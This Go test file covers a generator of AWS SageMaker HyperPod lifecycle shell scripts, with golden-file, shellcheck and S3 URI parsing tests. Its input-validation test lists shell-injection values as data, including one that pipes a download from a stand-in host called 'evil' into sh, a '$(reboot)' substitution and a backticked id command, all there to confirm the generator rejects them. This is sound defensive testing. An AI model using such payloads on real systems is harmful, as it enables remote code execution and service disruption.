package lifecycle

import (
	"bytes"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ctattrib/ctattrib/internal/golden"
)

const hyperPodRole = "arn:aws:iam::111122223333:role/HyperPodClusterRole"

var hyperPodParams = HyperPodParams{Cluster: "ml-cluster", RoleARN: hyperPodRole, Region: "us-east-1"}

// hyperPodCases are the scripts every check below runs on.
var hyperPodCases = []struct {
	name string
	p    HyperPodParams
}{
	{"hyperpod", hyperPodParams},
	{"hyperpod-no-region", HyperPodParams{Cluster: "ml-cluster", RoleARN: hyperPodRole}},
	{"hyperpod-long-name", HyperPodParams{Cluster: "team-a-llm-pretraining-cluster-us-east-1", RoleARN: hyperPodRole, Region: "us-east-1"}},
}

func TestHyperPodScriptGolden(t *testing.T) {
	for _, hc := range hyperPodCases {
		t.Run(hc.name, func(t *testing.T) {
			script, err := HyperPodScript(hc.p)
			if err != nil {
				t.Fatalf("HyperPodScript(%+v) = %v", hc.p, err)
			}
			golden.Check(t, filepath.Join("testdata", hc.name+".shell.golden"), script)
		})
	}
}

func TestHyperPodScriptLint(t *testing.T) {
	shellcheck, err := exec.LookPath("shellcheck")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("shellcheck is not installed; .ci/install-lifecycle.sh installs it")
		}
		t.Log("shellcheck is not installed (apt-get install shellcheck); running bash -n only")
	}
	for _, hc := range hyperPodCases {
		t.Run(hc.name, func(t *testing.T) {
			script, err := HyperPodScript(hc.p)
			if err != nil {
				t.Fatal(err)
			}
			s := string(script)
			if !strings.HasPrefix(s, "#!/bin/bash\n") || !strings.Contains(s, "\nset -euo pipefail\n") || strings.Contains(s, "\r") {
				t.Errorf("script lacks #!/bin/bash or set -euo pipefail, or holds CR")
			}
			path := filepath.Join(t.TempDir(), HyperPodScriptName)
			if err := os.WriteFile(path, script, 0o755); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
				t.Errorf("bash -n: %v\n%s", err, out)
			}
			if shellcheck != "" {
				if out, err := exec.Command(shellcheck, "--shell=bash", "--severity=style", path).CombinedOutput(); err != nil {
					t.Errorf("shellcheck: %v\n%s", err, out)
				}
			}
		})
	}
}

func TestHyperPodRefusesHostileValues(t *testing.T) {
	hostile := []HyperPodParams{
		{Cluster: "x'; curl evil|sh; '", RoleARN: hyperPodRole},
		{Cluster: "ml.cluster", RoleARN: hyperPodRole},
		{Cluster: strings.Repeat("c", 64), RoleARN: hyperPodRole},
		{Cluster: "", RoleARN: hyperPodRole},
		{Cluster: "ml-cluster", RoleARN: ""},
		{Cluster: "ml-cluster", RoleARN: "arn:aws:iam::111122223333:role/$(reboot)"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, Region: "us-east-1`id`"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, Region: "cn-north-1"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, SourceS3URI: "s3://Bad_Bucket/x"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, SourceS3URI: "s3://bucket/a b"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, SourceS3URI: "s3://bucket/a*"},
		{Cluster: "ml-cluster", RoleARN: hyperPodRole, SourceS3URI: "https://bucket/x"},
	}
	for _, p := range hostile {
		if _, err := HyperPodScript(p); !errors.Is(err, ErrInvalid) {
			t.Errorf("HyperPodScript(%+v) = %v, want ErrInvalid", p, err)
		}
		var buf bytes.Buffer
		if err := WriteHyperPodSteps(&buf, p); !errors.Is(err, ErrInvalid) || buf.Len() != 0 {
			t.Errorf("WriteHyperPodSteps(%+v) = %v after %d bytes, want ErrInvalid and nothing written", p, err, buf.Len())
		}
	}
}

func TestHyperPodSteps(t *testing.T) {
	tests := []struct {
		name string
		uri  string
	}{
		{"hyperpod-steps-own-bucket", "s3://ml-team-artifacts/hyperpod/lifecycle/"},
		{"hyperpod-steps-sagemaker-bucket", "s3://sagemaker-lifecycle-111122223333/ml-cluster"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := hyperPodParams
			p.SourceS3URI = tt.uri
			var buf bytes.Buffer
			if err := WriteHyperPodSteps(&buf, p); err != nil {
				t.Fatal(err)
			}
			golden.Check(t, filepath.Join("testdata", tt.name+".golden"), buf.Bytes())
		})
	}
}

func TestParseS3URI(t *testing.T) {
	tests := []struct {
		in   string
		want S3Location
		ok   bool
	}{
		{"s3://sagemaker-lcs", S3Location{"sagemaker-lcs", ""}, true},
		{"s3://my.bucket/a/b/", S3Location{"my.bucket", "a/b"}, true},
		{"s3://bucket//", S3Location{"bucket", ""}, true},
		{"s3://bu", S3Location{}, false},
		{"s3://bucket/a//b", S3Location{}, false},
		{"s3://a..b/x", S3Location{}, false},
		{"bucket/x", S3Location{}, false},
	}
	for _, tt := range tests {
		got, err := ParseS3URI(tt.in)
		if got != tt.want || (err == nil) != tt.ok {
			t.Errorf("ParseS3URI(%q) = %+v, %v, want %+v, ok %v", tt.in, got, err, tt.want, tt.ok)
		}
	}
}
